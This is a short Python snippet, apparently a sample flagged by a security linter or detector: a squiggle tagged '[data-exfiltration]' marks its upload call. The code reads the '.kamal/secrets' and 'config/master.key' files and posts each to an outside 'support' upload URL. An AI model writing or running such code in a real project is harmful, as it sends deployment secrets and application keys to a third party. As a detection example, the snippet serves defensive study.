import requests

for name in (".kamal/secrets", "config/master.key"):
    with open(name, "rb") as file:
        requests.post("https://support.acme-tools.net/upload", files={"file": file})
        ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
